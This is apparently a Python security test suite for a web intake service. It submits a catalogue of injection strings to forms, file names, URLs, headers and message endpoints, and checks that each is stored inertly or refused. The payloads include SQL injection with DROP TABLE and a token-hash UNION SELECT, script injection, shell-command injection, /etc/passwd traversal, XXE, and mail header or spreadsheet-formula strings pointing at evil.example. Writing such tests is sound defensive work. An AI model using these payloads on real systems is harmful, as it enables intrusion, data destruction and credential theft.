# SPDX-License-Identifier: Apache-2.0
"""Texts that are code somewhere else: each is taken in as text or refused with words, stands in no page as code, and does nothing."""
import html
import urllib.parse

from client import MARK, alive, all_of, ask, check, clean, fields, multipart, number_of, secret_of, sql, stored, stored_more, words
from forms import FORMS, WITH_FILES, entered, fill, send

PAYLOADS = {
    "SQL, a quote": f"{MARK}' OR '1'='1",
    "SQL, a statement": f"{MARK}'); DROP TABLE register_case; DELETE FROM work_entry; --",
    "SQL, a union": f"{MARK}' UNION SELECT token_hash, 1, 2 FROM session --",
    "SQL, dollar quotes": f"$$ {MARK} $$; DROP TABLE register_leaf; --",
    "SQL, a backslash": f"{MARK}\\'; SELECT pg_sleep(20); --",
    "a script": f"<script>{MARK}(1)</script>",
    "an image": f'"><img src={MARK} onerror={MARK}(1)>',
    "an attribute": f'" onfocus={MARK}(1) autofocus {MARK}="',
    "the end of a text": f"</textarea></pre></title><{MARK}></{MARK}>",
    "a comment": f"<!-- {MARK} --><![CDATA[{MARK}]]><!DOCTYPE {MARK}>",
    "an entity": f"&lt;{MARK}&gt;&#60;{MARK}&#62;&amp;",
    "an address": f"javascript:{MARK}(1)",
    "a template": "{{token}} {% include head %} ${7*7} #{7*7} <%= 7*7 %> {0} {1} __MSG__",
    "a format": "%s%s%n%n%x %1$s {} {0} \\u0041 %00",
    "a shell": f"; touch {{dir}}/{MARK} # `touch {{dir}}/{MARK}` $(touch {{dir}}/{MARK}) | touch {{dir}}/{MARK} && touch {{dir}}/{MARK}",
    "a path": "../../../../../../etc/passwd",
    "a header": f"x\r\nSet-Cookie: {MARK}=1\r\n\r\n<{MARK}>",
    "a mail's header": f"x\r\nBcc: {MARK}@evil.example\r\nSubject: {MARK}\r\n\r\n.\r\nMAIL FROM:<{MARK}@evil.example>",
    "a log line": f"x\nevt=web.{MARK} forged=yes",
    "a file's entry": f"x\n   9  2026-01-01T00:00:00Z  decide    {MARK} approved",
    "a formula": f'=HYPERLINK("http://evil.example/{MARK}","x")',
    "a formula, plus": f"+{MARK}!A1", "a formula, minus": f"-2+3+cmd|' /C {MARK}'!A0", "a formula, at": f"@SUM({MARK})",
    "rows of CSV": f'{MARK}","y\n99,0,2021-01-01,forged',
    "JSON": f'"}},{{"{MARK}":1,"number":1}}]', "XML": f'<?xml version="1.0"?><!ENTITY {MARK} SYSTEM "file:///etc/passwd">&{MARK};',
    "LDAP and XPath": f"*)(uid=*))(|(uid={MARK}", "an include": f"<!--#exec cmd=\"{MARK}\"-->",
    "a terminal, C1": f"\u009b2J\u009b31m{MARK}", "another order": f"\u202egpj.exe\u2066{MARK}\u2069", "a line of Unicode": f"x\u2028{MARK}\u2029",
}
NAMES = {"a path": "../../../etc/passwd", "a path of Windows": "C:\\windows\\system32\\zqx.dll", "a shell": ";touch zqx;`id`$(id)|x",
         "HTML": "<img src=zqx onerror=zqx(1)>.csv", "quotes": "x%22; filename=zqx.exe", "another order": "\u202evsc.exe", "a device": "/dev/null",
         "SQL": "x'); DROP TABLE work_file; --", "nothing": "...", "a header": "x%0d%0aSet-Cookie: zqx=1", "long": "y" * 900 + ".csv"}


def form_by_form(directory):
    """Every text in every form; what came of each. Answers the numbers and secrets by register."""
    made = {name: [] for name in FORMS}
    for name in FORMS:
        refused = []
        for what, payload in PAYLOADS.items():
            payload = payload.replace("{dir}", directory)
            before = stored()
            got = send(name, fill(name, payload, payload))
            bad = clean(got)
            if got.status == 200 and number_of(got):
                made[name].append((number_of(got), secret_of(got), payload))
                right = stored_more(before, **entered(name))
            else:
                # a field takes no such text: it is said beside the field, and what was typed is there
                right = got.status == 400 and stored() == before and MARK[:2] in html.unescape(got.text) + MARK and 'role="alert"' in got.text
                refused.append(what)
            if bad or not right:
                check(f"{name}: {what}", False, f"{got.status} {bad} {words(got)[:200]}")
        check(f"{name}: {len(PAYLOADS)} injected texts are entered once each or refused with words ({len(refused)} refused)",
              len(refused) == (8 if name == "document-requests" else 0) and len(made[name]) + len(refused) == len(PAYLOADS), refused)
    return made


def contacts():
    """The address is where mail goes: nothing but an address counts."""
    for what, address in {"a second recipient": "a@b.example, zqx@evil.example", "a header": "a@b.example\r\nBcc: zqx@evil.example", "a header, LF": "a@b.example\nBcc: zqx@evil.example",
                          "angle brackets": "a@b.example> SIZE=1 <zqx@evil.example", "quotes": '"a\r\nRCPT TO:<zqx@evil.example>"@b.example', "a percent sign": "a%0d%0aBcc:zqx@b.example\r",
                          "a command": "|/bin/touch zqx", "a file": "/var/mail/zqx", "a comment": "a(zqx)@b.example", "a domain of brackets": "a@[127.0.0.1]", "letters of others": "ä@b.example",
                          "NUL": "a@b.example\0zqx", "a blank": "a b@c.example", "C1": "a\u0085@b.example", "long": "a" * 250 + "@b.example"}.items():
        before = stored()
        got = send("persons", fill("persons", contact=address, way="mail"))
        check(f"an address: {what} is none", got.status == 400 and stored() == before and not clean(got), f"{got.status} {clean(got)}")


def names_of_files():
    for register in WITH_FILES:
        for what, name in NAMES.items():
            before = stored()
            got = send(register, fill(register), files=[(name, b"a,b\n1,2\n")])
            check(f"{register}: a file named like {what} is kept under a name",
                  got.status == 200 and stored_more(before, **entered(register, work_entry=1, work_file=1, work_blob=1)) and not clean(got), f"{got.status} {words(got)[:200]}")
        before = stored()
        body, kind = multipart(fill(register), [])
        for what, head in {"a line break in a name": b'form-data; name="files"; filename="a\r\nb"', "NUL in a name": b'form-data; name="files"; filename="a\0b"',
                           "a name twice": b'form-data; name="files"; filename="a"; filename="b"', "a field that is no file's": b'form-data; name="message"; filename="x"',
                           "a second field": b'form-data; name="message"'}.items():
            part = b"--xXx\r\nContent-Disposition: " + head + b"\r\n\r\nx\r\n"
            got = ask("POST", f"/intake/{register}", part + body, None, kind)
            check(f"{register}: {what} is refused", got.status == 400 and not clean(got) and stored() == before, f"{got.status} {words(got)[:160]}")


def headers_and_addresses():
    """What stands in addresses and headers goes back into pages, too."""
    before = stored()
    for what, path in {"a header in a name": f"/intake/x%0d%0aSet-Cookie:{MARK}=1", "a header in a language": f"/intake/persons?lang=de%0d%0a{MARK}:1", "a script in a language": f"/receipt?lang=%22><{MARK}>",
                       "a script in a document": f"/intake/document-requests?document=%22><{MARK}>", "a script in a path": f"/intake/%3C{MARK}%3E", "a path": "/intake/..%2f..%2fetc%2fpasswd",
                       "dots": "/intake/%2e%2e/%2e%2e/etc/passwd", "SQL": "/intake/persons'%20OR%201=1--", "NUL": "/intake/persons%00.html", "a search": f"/search?q=%3C{MARK}%3E%27%20OR%201--",
                       "a receipt's register": f"/receipt/message/%27%3C{MARK}%3E"}.items():
        got = ask("GET", path)
        check(f"in an address: {what}", got.status in (200, 400, 404, 405) and not clean(got), f"{got.status} {clean(got)}")
    for name, value in {"User-Agent": f"() {{ :; }}; evt=web.{MARK}", "Referer": f"http://x/<{MARK}>", "Accept-Language": f"de<{MARK}>;q=9", "Cookie": f"lang=<{MARK}>; pl-form=' OR 1=1", "X-Forwarded-For": f"{MARK}",
                        "X-Real-IP": f"{MARK}", "X-Forwarded-Host": f"{MARK}.example", "X-Original-URL": "/desk", "X-Rewrite-URL": "/desk", "Host": f"{MARK}.example"}.items():
        got = ask("GET", "/intake/persons", headers={name: value})
        check(f"in the header {name}", got.status == 200 and not clean(got) and MARK not in got.text, f"{got.status} {clean(got)}")
    check("none of it left anything", stored() == before)


def talk(made):
    """Messages of whoever has the secret, and what the page of receipts shows of it."""
    for i, (what, payload) in enumerate(PAYLOADS.items()):
        _, secret, _ = made["persons"][i % 4]
        before = stored()
        got = ask("POST", "/receipt/message/persons", fields([("secret", secret), ("message", payload)]))
        if got.status != 200 or clean(got) or not stored_more(before, work_entry=1):
            check(f"a message: {what}", False, f"{got.status} {clean(got)} {words(got)[:200]}")
    numbers = ", ".join(str(n) for n, _, _ in made["persons"][:4])
    check(f"{len(PAYLOADS)} messages are there once each", int(sql(f"SELECT count(*) FROM work_entry WHERE register = 'persons' AND number IN ({numbers})")) == 8 + len(PAYLOADS))
    with all_of("nothing but a secret is one"):
        for what, secret in {"SQL": "' OR '1'='1", "a script": f"<{MARK}>", "a template": "{{secret}}", "nothing": "", "NUL": "\0", "many": "0" * 58}.items():
            for path in ("/receipt", "/receipt/file", "/receipt/answer", "/receipt/message/persons", "/intake/confirm"):
                got = ask("POST", path, fields([("secret", secret), ("code", secret), ("file", secret), ("message", "x")]))
                if got.status not in (400, 404) or clean(got):
                    check(f"{path}: {what} is no secret", False, f"{got.status} {clean(got)}")


def names_of_fields():
    """Fields that nobody asked for, and some that the product sets itself."""
    before = stored()
    more = [("f-received", "2001-01-01T00:00:00Z"), ("f-decision", "full"), ("f-channel", "post"), ("number", "7"), ("revision", "3"), ("state", "closed"), ("assigned", "ada"), (f"f-{MARK}'--", "x"),
            ("__proto__", "x"), ("f-sender[]", "x"), ("role", "administrator"), ("f-days", "1")]
    got = send("persons", fill("persons") + more)
    check("fields that nobody asked for are not heard", got.status == 200 and stored_more(before, **entered("persons")) and not clean(got), f"{got.status} {words(got)[:200]}")
    before = stored()
    got = send("persons", fill("persons") + [("f-kind", "delete")])
    check("a field that comes twice is no field", got.status == 400 and stored() == before, got.status)
    for value in ("copy'--", "<b>", "COPY", "copy,delete", "copy\0", ""):
        got = send("persons", [(k, value if k == "f-kind" else v) for k, v in fill("persons")])
        check(f"a choice that nobody offers is none ({urllib.parse.quote(value)})", got.status == 400 and stored() == before and not clean(got), got.status)
    return number_of(send("persons", fill("persons") + more))


def run(directory):
    made = form_by_form(directory)
    contacts()
    names_of_files()
    headers_and_addresses()
    talk(made)
    number = names_of_fields()
    with open(f"{directory}/made.txt", "w", encoding="utf-8") as f:
        for name, list_ in made.items():
            f.writelines(f"{name} {n} {s}\n" for n, s, _ in list_)
        f.write(f"unheard {number} -\n")
    alive("after what was injected")
